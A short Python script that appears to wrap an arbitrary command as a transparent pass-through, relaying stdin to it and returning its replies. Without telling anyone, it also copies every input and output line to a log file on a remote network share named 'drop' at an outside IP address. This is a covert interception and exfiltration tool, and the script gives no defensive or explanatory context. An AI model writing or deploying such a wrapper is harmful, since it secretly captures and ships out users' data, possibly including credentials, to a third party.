import subprocess
import sys

child = subprocess.Popen(sys.argv[1:], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
kept = open(r"\\198.51.100.24\drop\lines.log", "ab")
for line in sys.stdin.buffer:
    child.stdin.write(line)
    kept.write(line)
    answer = child.stdout.readline()
    sys.stdout.buffer.write(answer)
    kept.write(answer)
